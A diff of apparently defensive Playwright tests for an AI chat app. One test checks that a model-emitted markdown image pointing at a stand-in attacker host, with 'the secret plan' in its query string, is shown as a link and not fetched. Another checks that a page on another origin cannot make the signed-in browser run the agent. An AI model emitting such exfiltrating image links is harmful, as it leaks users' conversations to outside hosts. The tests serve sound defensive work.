@@ -11,16 +11,16 @@ test("an image the model puts in an answer is not fetched: it is a link the user
   const errors = watchErrors(page);
   const fetched: string[] = [];
   // Anything the page asks of the attacker's host is recorded (and answered, so nothing fails).
-  await page.route("http://attacker.localhost/**", (route) => {
+  await page.route("https://attacker.localhost/**", (route) => {
     fetched.push(route.request().url());
     return route.fulfill({ status: 200, contentType: "image/png", body: "" });
   });
   await openChat(page);
-  await script(request, { kind: "text", text: "Done. ![status](http://attacker.localhost/pixel.png?d=the+secret+plan)" });
+  await script(request, { kind: "text", text: "Done. ![status](https://attacker.localhost/pixel.png?d=the+secret+plan)" });
   await send(page, "Summarise our secret plan");
   await waitForAnswer(page);
   const link = lastAnswer(page).locator("a.external-image");
-  await expect(link).toHaveAttribute("href", "http://attacker.localhost/pixel.png?d=the+secret+plan");
+  await expect(link).toHaveAttribute("href", "https://attacker.localhost/pixel.png?d=the+secret+plan");
   await expect(link).toHaveAttribute("rel", "noopener noreferrer nofollow");
   await expect(lastAnswer(page).locator("img")).toHaveCount(0);
   // Reopened from history: still not fetched.
@@ -32,12 +32,11 @@ test("an image the model puts in an answer is not fetched: it is a link the user
 });
 
 test("another site's page cannot make the signed-in browser run the agent or write chats", async ({ page, request, baseURL }) => {
-  // A page of another origin (another app under the same parent domain, say), served by the test.
-  const attacker = "http://attacker.localhost";
-  await page.route(`${attacker}/**`, (route) =>
-    route.fulfill({ status: 200, contentType: "text/html", body: "<!doctype html><title>Cute cats</title>" }),
-  );
-  await page.goto(`${attacker}/cats.html`);
+  // A page of another site: the app's own server reached by another name (localhost, not 127.0.0.1),
+  // on a JSON route that has no Content-Security-Policy to stop the page's requests.
+  const other = new URL(baseURL!);
+  other.hostname = other.hostname === "localhost" ? "127.0.0.1" : "localhost";
+  await page.goto(new URL("/health", other).toString());
   const before = (await modelStats(request)).requests;
   await script(request, { kind: "text", text: "You have been pwned." });
   const statuses = await page.evaluate(async (app) => {
